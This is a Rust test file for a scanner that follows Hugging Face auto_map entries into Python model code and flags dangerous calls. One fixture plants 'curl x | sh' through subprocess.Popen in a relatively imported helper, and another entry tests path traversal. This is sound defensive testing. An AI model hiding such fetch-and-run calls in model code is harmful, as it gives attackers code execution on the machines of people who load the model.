//! Hugging Face remote code (issue 20): the Python files a config's
//! `auto_map` names, and the files they import relatively, are parsed and
//! their dangerous calls reported with file and line.

#![allow(clippy::unwrap_used, clippy::print_stdout, unreachable_pub)] // Tests may unwrap and print.

use aisec_core::Severity;
use aisec_scan::Scanner;

fn repo(files: &[(&str, &str)]) -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    for (n, body) in files {
        let p = d.path().join(n);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    d
}

const CONFIG: &str = r#"{"model_type": "x", "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}}"#;

#[test]
fn payload_in_a_relatively_imported_helper_is_found_with_its_line() {
    let d = repo(&[
        ("config.json", CONFIG),
        ("configuration_x.py", "class XConfig:\n    pass\n"),
        (
            "modeling_x.py",
            "import torch\nfrom .utils_x import setup\n\nclass XModel(torch.nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        setup()\n",
        ),
        (
            "utils_x.py",
            "import subprocess as sp\n\ndef setup():\n    sp.Popen(['sh', '-c', 'curl x | sh'])\n",
        ),
    ]);
    let cfg = d.path().join("config.json");
    let r = Scanner::default().scan_file(&cfg, cfg.to_str().unwrap());
    let f = r
        .findings
        .iter()
        .find(|f| f.rule_id == "AISEC-SCAN-007" && f.severity == Severity::Critical)
        .unwrap_or_else(|| panic!("{:#?}", r.findings));
    assert!(f.location.path.ends_with("utils_x.py"), "{}", f.location);
    assert!(f.evidence.starts_with("line 4:"), "{}", f.evidence);
    assert!(f.evidence.contains("subprocess.Popen"), "{}", f.evidence);
    // The auto_map finding itself stays high.
    assert!(r
        .findings
        .iter()
        .any(|f| f.rule_id == "AISEC-SCAN-006" && f.severity == Severity::High));
}

#[test]
fn ordinary_remote_code_adds_nothing_above_low() {
    let d = repo(&[
        ("config.json", CONFIG),
        ("configuration_x.py", "from transformers import PretrainedConfig\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n"),
        (
            "modeling_x.py",
            "import math\nimport torch\nfrom torch import nn\nfrom .configuration_x import XConfig\n\nclass XModel(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.l = nn.Linear(4, 4)\n    def forward(self, x):\n        return self.l(x) * math.sqrt(2)\n",
        ),
    ]);
    let cfg = d.path().join("config.json");
    let r = Scanner::default().scan_file(&cfg, cfg.to_str().unwrap());
    assert!(
        r.findings
            .iter()
            .filter(|f| f.rule_id == "AISEC-SCAN-007")
            .all(|f| f.severity <= Severity::Low),
        "{:#?}",
        r.findings
    );
    // Read and found clean: the auto_map finding itself drops to medium.
    let f = r
        .findings
        .iter()
        .find(|f| f.rule_id == "AISEC-SCAN-006")
        .unwrap();
    assert_eq!(f.severity, Severity::Medium, "{}", f.evidence);
    assert!(f.evidence.contains("2 file(s)"), "{}", f.evidence);
}

#[test]
fn files_outside_the_repo_and_missing_files_are_not_read() {
    let d = repo(&[(
        "config.json",
        r#"{"auto_map": {"AutoModel": "..evil.X", "AutoTokenizer": "missing_mod.T"}}"#,
    )]);
    let cfg = d.path().join("config.json");
    let r = Scanner::default().scan_file(&cfg, cfg.to_str().unwrap());
    let notes: Vec<&str> = r
        .findings
        .iter()
        .filter(|f| f.rule_id == "AISEC-SCAN-007")
        .map(|f| f.evidence.as_str())
        .collect();
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(notes[0].contains("not analysed"), "{notes:?}");
    // Unread code keeps the auto_map finding high.
    assert!(r
        .findings
        .iter()
        .any(|f| f.rule_id == "AISEC-SCAN-006" && f.severity == Severity::High));
}

fn hf_fixture(name: &str) -> Vec<u8> {
    let p = format!(
        "{}/tests/fixtures/hf_repo/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    std::fs::read(&p)
        .unwrap_or_else(|e| panic!("{p}: {e} (scripts/fixtures/gen_hf_repo_fixtures.py)"))
}

/// A repo folder zipped or tarred (scripts/fixtures/gen_hf_repo_fixtures.py):
/// the Python files its config.json's auto_map names are read from the same
/// archive, followed through relative imports, and judged as for a folder.
#[test]
fn auto_map_files_inside_archives_are_parsed() {
    for name in ["hf_repo_evil.zip", "hf_repo_evil.tar.gz"] {
        let r = Scanner::default().scan_bytes(&hf_fixture(name), name);
        let calls: Vec<_> = r
            .findings
            .iter()
            .filter(|f| f.rule_id == "AISEC-SCAN-007" && f.severity == Severity::Critical)
            .collect();
        assert!(
            calls.iter().any(|f| f
                .location
                .member
                .as_deref()
                .is_some_and(|m| m.ends_with("tiny-model/helpers.py"))
                && f.evidence.contains("os.system")
                && f.evidence.starts_with("line 7:")),
            "{name}: {:#?}",
            r.findings
        );
        assert!(
            r.findings
                .iter()
                .any(|f| f.rule_id == "AISEC-SCAN-006" && f.severity == Severity::High),
            "{name}: {:#?}",
            r.findings
        );
    }
    // The same layout with ordinary model code: read, nothing dangerous, so
    // the auto_map finding is medium and nothing else is above low.
    let r = Scanner::default().scan_bytes(&hf_fixture("hf_repo_benign.zip"), "hf_repo_benign.zip");
    let f = r
        .findings
        .iter()
        .find(|f| f.rule_id == "AISEC-SCAN-006")
        .unwrap_or_else(|| panic!("{:#?}", r.findings));
    assert_eq!(f.severity, Severity::Medium, "{}", f.evidence);
    assert!(f.evidence.contains("2 file(s)"), "{}", f.evidence);
    assert!(
        r.findings
            .iter()
            .filter(|f| f.rule_id != "AISEC-SCAN-006")
            .all(|f| f.severity <= Severity::Low),
        "{:#?}",
        r.findings
    );
}
